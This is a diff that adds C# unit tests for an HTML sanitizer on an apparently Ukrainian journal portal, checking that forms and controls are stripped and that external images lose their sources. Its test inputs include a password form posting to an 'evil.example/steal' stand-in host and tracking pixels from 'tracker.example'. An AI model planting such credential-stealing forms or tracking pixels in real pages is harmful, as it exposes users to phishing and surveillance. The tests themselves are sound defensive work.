@@ -31,6 +31,40 @@ public sealed class SafeHtmlTests
         }
     }
 
+    [Theory]
+    [InlineData("<form action=\"https://evil.example/steal\"><label>Пароль</label><input type=\"password\" name=\"p\"><button>Увійти</button></form>")]
+    [InlineData("<select><option>1</option></select><textarea>текст</textarea><fieldset><legend>Вхід</legend></fieldset>")]
+    [InlineData("<button formaction=\"https://evil.example\">Надіслати</button>")]
+    public void FormsAndControls_AreRemoved_TheirTextKeptAtMost(string payload)
+    {
+        var elements = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(SafeHtml.Sanitize(payload)).Body!.QuerySelectorAll("*");
+
+        Assert.DoesNotContain(elements, e => e.TagName is "FORM" or "INPUT" or "BUTTON" or "SELECT" or "OPTION" or "TEXTAREA" or "LABEL" or "FIELDSET" or "LEGEND");
+    }
+
+    [Theory]
+    [InlineData("<img src=\"https://tracker.example/pixel.gif\">")]
+    [InlineData("<img src=\"//tracker.example/pixel.gif\">")]
+    [InlineData("<img src=\"http://tracker.example/p.gif\" srcset=\"https://tracker.example/p2.gif 2x\">")]
+    [InlineData("![піксель](https://tracker.example/pixel.gif)")]
+    public void ExternalImages_LoseTheirSource(string payload)
+    {
+        foreach (var html in new[] { SafeHtml.Sanitize(payload), SafeHtml.FromMarkdown(payload) })
+        {
+            // Escaped text is inert; what matters is that no image element points elsewhere.
+            var images = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html).Body!.QuerySelectorAll("img");
+            Assert.DoesNotContain(images.SelectMany(i => i.Attributes), a => a.Value.Contains("tracker.example", StringComparison.Ordinal));
+        }
+    }
+
+    [Fact]
+    public void ImagesFromThePortalItself_AreKept()
+    {
+        var html = SafeHtml.Sanitize("<img src=\"/journal/articles/0194a000-0000-7000-8000-000000000001/cover\" alt=\"Обкладинка\">");
+
+        Assert.Contains("src=\"/journal/articles/0194a000-0000-7000-8000-000000000001/cover\"", html, StringComparison.Ordinal);
+    }
+
     [Fact]
     public void Markdown_KeepsFormattingAndUkrainian()
     {
